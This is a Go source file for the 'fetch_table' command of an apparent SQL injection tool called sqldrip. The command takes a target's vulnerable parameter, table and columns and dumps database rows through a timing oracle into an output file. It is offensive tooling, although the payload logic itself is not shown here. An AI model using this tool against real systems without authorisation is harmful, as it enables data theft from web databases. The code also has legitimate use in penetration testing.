package cli

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"strings"

	"github.com/spf13/cobra"

	"github.com/0x6d61/sqldrip/internal/engine"
	"github.com/0x6d61/sqldrip/internal/payload"
	"github.com/0x6d61/sqldrip/internal/session"
	"github.com/0x6d61/sqldrip/internal/transport"
)

var fetchTableCmd = &cobra.Command{
	Use:     "fetch_table",
	Aliases: []string{"f"},
	Short:   "Fetch a table by exploiting a vulnerable parameter",
	Long: `Fetch_table dumps rows of a table through the timing oracle, streaming
them into the output file as they are recovered.`,
	RunE: runFetchTable,
}

func init() {
	rootCmd.AddCommand(fetchTableCmd)

	fetchTableCmd.Flags().StringP("method", "M", "", "HTTP method for the requests (get or post)")
	fetchTableCmd.Flags().StringP("params", "P", "", "Parameters and their default values (JSON object)")
	fetchTableCmd.Flags().StringP("headers", "H", "", "Headers for the requests (JSON object)")
	fetchTableCmd.Flags().Float64P("threshold", "T", payload.DefaultThreshold, "Threshold multiplying the reference response time (must be greater than 1)")
	fetchTableCmd.Flags().IntP("max_interval", "I", engine.DefaultMaxInterval, "Max time to wait between each request in ms")
	fetchTableCmd.Flags().Int("threads", engine.DefaultMaxThreads, "Max number of concurrent requests")

	fetchTableCmd.Flags().StringP("vulnerable_param", "p", "", "The vulnerable parameter to exploit")
	fetchTableCmd.Flags().StringP("table", "t", "", "The name of the table to fetch")
	fetchTableCmd.Flags().StringP("columns", "c", "", "The columns to select (comma-separated)")
	fetchTableCmd.Flags().IntP("from_row", "r", 0, "The row from which to start selecting")
	fetchTableCmd.Flags().IntP("n_rows", "n", 0, "The number of rows to select (omit to fetch until the end)")
	fetchTableCmd.Flags().Int("min_row_length", engine.DefaultMinRowLength, "Limit selection to rows with this min length")
	fetchTableCmd.Flags().Int("max_row_length", engine.DefaultMaxRowLength, "Limit selection to rows with this max length")
	fetchTableCmd.Flags().StringP("output_path", "o", engine.DefaultOutputPath, "Path to the output file")
	fetchTableCmd.Flags().String("session", "", "SQLite ledger recording completed dumps (optional)")

	fetchTableCmd.MarkFlagRequired("method")           //nolint:errcheck
	fetchTableCmd.MarkFlagRequired("params")           //nolint:errcheck
	fetchTableCmd.MarkFlagRequired("vulnerable_param") //nolint:errcheck
	fetchTableCmd.MarkFlagRequired("table")            //nolint:errcheck
	fetchTableCmd.MarkFlagRequired("columns")          //nolint:errcheck
}

func runFetchTable(cmd *cobra.Command, args []string) error {
	targetURL, _ := cmd.Flags().GetString("url")

	method, err := parseMethod(mustString(cmd, "method"))
	if err != nil {
		return err
	}
	params, err := parseJSONMap(mustString(cmd, "params"), "params")
	if err != nil {
		return err
	}
	headers, err := parseHeadersFlag(cmd)
	if err != nil {
		return err
	}
	threshold, _ := cmd.Flags().GetFloat64("threshold")
	if err := validateThreshold(threshold); err != nil {
		return err
	}
	maxInterval, _ := cmd.Flags().GetInt("max_interval")
	if err := validateMin(maxInterval, 0, "max_interval"); err != nil {
		return err
	}
	threads, _ := cmd.Flags().GetInt("threads")
	if err := validateMin(threads, 1, "threads"); err != nil {
		return err
	}

	param := mustString(cmd, "vulnerable_param")
	table := mustString(cmd, "table")
	columns := strings.Split(mustString(cmd, "columns"), ",")
	fromRow, _ := cmd.Flags().GetInt("from_row")
	if err := validateMin(fromRow, 0, "from_row"); err != nil {
		return err
	}
	nRows, _ := cmd.Flags().GetInt("n_rows")
	if cmd.Flags().Changed("n_rows") {
		if err := validateMin(nRows, 1, "n_rows"); err != nil {
			return err
		}
	}
	minRowLength, _ := cmd.Flags().GetInt("min_row_length")
	if err := validateMin(minRowLength, 0, "min_row_length"); err != nil {
		return err
	}
	maxRowLength, _ := cmd.Flags().GetInt("max_row_length")
	if err := validateMin(maxRowLength, 1, "max_row_length"); err != nil {
		return err
	}
	outputPath := mustString(cmd, "output_path")
	sessionPath := mustString(cmd, "session")

	client, err := buildClient(cmd)
	if err != nil {
		return err
	}
	target := transport.NewTarget(targetURL, client)
	builder, err := payload.NewBuilder(target, threshold)
	if err != nil {
		return err
	}

	opts := engine.DefaultOptions()
	opts.MaxInterval = maxInterval
	opts.MaxThreads = threads
	opts.MinRowLength = minRowLength
	opts.MaxRowLength = maxRowLength

	eng := engine.New(target, params, builder, buildSink(cmd), opts)

	// Ctrl+C finalizes the output file with the footer before exiting.
	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt)
	defer cancel()

	defaultRequest := transport.NewRequest(params, method, headers)

	dump, err := eng.FetchTable(ctx, defaultRequest, engine.TableConfig{
		Param:      param,
		Table:      table,
		Columns:    columns,
		FromRow:    fromRow,
		NRows:      nRows,
		OutputPath: outputPath,
	})
	interrupted := err != nil && errors.Is(err, context.Canceled)
	if err != nil && !interrupted {
		return fmt.Errorf("fetch_table failed: %w", err)
	}

	if sessionPath != "" && dump != nil {
		if saveErr := saveDumpRecord(ctx, sessionPath, targetURL, param, table, columns, dump, interrupted); saveErr != nil {
			fmt.Fprintf(os.Stderr, "[!] Failed to record session: %v\n", saveErr)
		}
	}

	if dump != nil {
		fmt.Printf("Fetched %d row(s) into %q.\n", dump.RowsFetched, dump.OutputPath)
	}
	return nil
}

// saveDumpRecord appends the dump to the session ledger. The ledger is
// best-effort bookkeeping; a context already canceled by Ctrl+C must not
// prevent the write, so the save uses a fresh context.
func saveDumpRecord(ctx context.Context, path, targetURL, param, table string, columns []string, dump *engine.TableDump, interrupted bool) error {
	store, err := session.NewSQLiteStore(path)
	if err != nil {
		return err
	}
	defer store.Close()

	return store.Save(context.WithoutCancel(ctx), &session.DumpRecord{
		TargetURL:   targetURL,
		Param:       param,
		Table:       table,
		Columns:     columns,
		RowsFetched: dump.RowsFetched,
		OutputPath:  dump.OutputPath,
		Duration:    dump.Duration.Seconds(),
		Interrupted: interrupted,
	})
}
